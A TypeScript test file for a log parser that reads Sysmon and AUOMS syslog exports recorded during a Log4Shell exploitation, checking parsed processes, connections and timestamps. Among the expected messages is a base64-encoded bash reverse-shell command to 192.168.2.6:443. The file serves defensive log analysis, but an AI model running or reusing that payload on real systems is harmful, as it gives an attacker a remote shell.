import path from "node:path";
import { describe, expect, it } from "vitest";
import { parseFileForTest } from "../testing-parse-file";
import { auditFields, auomsDraft } from "./auoms-record";
import { repairSysmonXml } from "./syslog-la";

// The real Log4Shell exports in ../shared/samples/linux (see its SOURCES.md), read in place.
const LINUX = path.resolve(import.meta.dirname, "../../../../shared/samples/linux");
const SYSMON = path.join(LINUX, "syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json");
const AUOMS = path.join(LINUX, "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json");

describe("Log Analytics Syslog rows", () => {
  it("read Sysmon for Linux events inside SyslogMessage: every row, the event's own time, Java starting the shell", async () => {
    const r = await parseFileForTest(SYSMON);
    expect(r.format).toBe("syslog-la");
    expect(r.problems).toEqual([]);
    expect(r.records).toHaveLength(93);
    const jndi = r.records.find((x) => x.line === 6);
    expect(jndi?.occurredAt).toBe("2022-05-11T18:10:21.783984Z");
    expect(jndi?.draft).toMatchObject({ action: "network-connect", actor: "tomcat", host: "UBUNTU5", dstIp: "192.168.2.6" });
    expect(jndi?.draft.message).toMatch(
      /from \/usr\/lib\/jvm\/java-8-openjdk-amd64\/jre\/bin\/java: 192\.168\.2\.5:\d+ → 192\.168\.2\.6:1389 /,
    );
    // Cut at syslog's line limit: the whole <Data> values are kept, and the event says it was cut.
    const shell = r.records.find((x) => x.line === 8);
    expect(shell?.draft).toMatchObject({ action: "process-create", actor: "tomcat", target: "/bin/bash" });
    expect(shell?.draft.message).toMatch(
      /^Process created: bash -c \{echo,.*\(parent \/usr\/lib\/jvm\/java-8-openjdk-amd64\/jre\/bin\/java\).*\[event cut short by syslog\]$/,
    );
    expect(shell?.entities).toContainEqual({ kind: "ip", value: "192.168.2.5", role: "host" });
    // Entities without their semicolon ("&lt unknown process&gt") are read, not rejected.
    expect(r.records.find((x) => x.line === 9)?.draft.message).toBe("process-terminate: < unknown process>  by tomcat");
    // The raw row is the row as exported, untouched.
    expect(typeof shell?.raw.SyslogMessage).toBe("string");
  });

  it("read AUOMS process executions: what was run, by whom, and the failed attempts as failures", async () => {
    const r = await parseFileForTest(AUOMS);
    expect(r.format).toBe("syslog-la");
    expect(r.problems).toEqual([]);
    expect(r.records).toHaveLength(50);
    expect(r.records[0]?.draft).toMatchObject({
      action: "process-create",
      outcome: "failure (exit -2)",
      actor: "tomcat",
      target: "/usr/local/sbin/bash",
      message: "Process failed to start: /usr/local/sbin/bash (called by /usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java) as tomcat",
    });
    expect(r.records[5]?.draft).toMatchObject({ outcome: "success", target: "/bin/bash" });
    // cmdline's inner quotes are not escaped by AUOMS: it is read up to the next key.
    expect(r.records[5]?.draft.message).toBe(
      'Process started: bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}" as tomcat',
    );
  });

  it("repair only what syslog broke, and parse audit key=value pairs with quoted values", () => {
    expect(repairSysmonXml("<Event><EventData><Data>&lt x&gt &amp;</Data></EventData></Event>")).toEqual({
      xml: "<Event><EventData><Data>&lt; x&gt; &amp;</Data></EventData></Event>",
      truncated: false,
    });
    expect(repairSysmonXml('<Event><EventData><Data Name="a">1</Data><Data Name="b">2')).toEqual({
      xml: '<Event><EventData><Data Name="a">1</Data></EventData></Event>',
      truncated: true,
    });
    expect(auditFields('type=X user=tomcat comm="http nio" exe="/bin/sh" success=yes')).toMatchObject({
      user: "tomcat",
      comm: "http nio",
      exe: "/bin/sh",
      success: "yes",
    });
    expect(auomsDraft("plain syslog text")).toBeNull();
  });
});
